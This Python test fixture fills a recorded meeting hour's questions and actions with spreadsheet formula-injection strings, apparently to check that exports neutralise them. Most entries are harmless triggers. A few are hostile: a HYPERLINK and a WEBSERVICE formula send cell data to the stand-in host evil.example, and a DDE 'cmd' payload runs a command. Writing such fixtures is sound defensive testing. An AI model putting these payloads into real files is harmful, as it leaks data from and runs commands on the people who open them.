"""Cells that somebody wrote for the spreadsheet of whoever opens the file, and a record full of them."""

from typing import Final

from tests.rehearsal.scenario import Json
from tests.unit.recorded import hour, question

HOSTILE: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "＝1+1", "＋1+1", "＠SUM(1+1)", '"=1+1"', "first\n=1+1", "a;=1+1", "a, =1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"press")', '=WEBSERVICE("http://evil.example/")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "\u202e=1+1\u202c backwards", "\u200b=1+1", "\ufeff=1+1", "%0A=1+1", " =1+1", "'=1+1", "x" * 40_000, "=" + "1" * 40_000, "1E9", "00042", "1/2", "TRUE",
)  # fmt: skip


def record() -> Json:
    """The rehearsed hour with a question, a name and an action for each of them."""
    told = hour()
    told["questions"] = [question(n, text=text, name=text, organisation=text, group="civil", tags=[text]) for n, text in enumerate(HOSTILE, 1)]
    told["actions"] = [
        {"id": f"a{n}", "number": n, "text": text, "person": None, "lead": text, "due": None, "status": "to_confirm", "turn": None, "question": None, "announced": True}
        for n, text in enumerate(HOSTILE, 1)
    ]  # fmt: skip
    return told
